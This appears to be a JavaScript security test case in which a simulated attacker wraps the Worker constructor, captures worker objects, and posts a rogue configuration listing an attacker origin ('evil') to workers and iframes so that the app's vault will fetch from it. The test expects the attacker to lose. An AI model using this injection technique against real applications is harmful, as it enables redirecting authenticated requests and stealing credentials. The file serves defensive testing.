// A real attacker: got hold of the worker object, and sends it a second configuration that lists the attacker's
// server.
export default {
  row: "messages",
  expected: ["loses", "loses"],
  before: (redteam) => {
    const { Worker } = globalThis;
    redteam.workers = [];
    globalThis.Worker = class extends Worker {
      constructor(...given) {
        super(...given);
        redteam.workers.push(this);
      }
    };
  },
  after: async ({ evil, home }) => {
    const { redteam, app } = globalThis;
    const heard = [];
    for (const worker of redteam.workers) {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => heard.push(String(data));
      worker.postMessage({ endpoints: `${home}/auth`, resources: [{ origin: evil }] }, [port2]);
      await new Promise((resolve) => setTimeout(resolve, 300));
      port1.postMessage([0, 1, `${evil}/v1/me`, [], { method: "GET" }, true]);
    }
    for (const frame of document.querySelectorAll("iframe")) {
      frame.contentWindow.postMessage({ resources: [{ origin: evil }] }, "*", [new MessageChannel().port2]);
    }
    await new Promise((resolve) => setTimeout(resolve, 1500));
    heard.push(
      await app.vault.fetch(`${evil}/v1/me`).then(
        (response) => response.status,
        (error) => error.code,
      ),
    );
    return heard;
  },
};
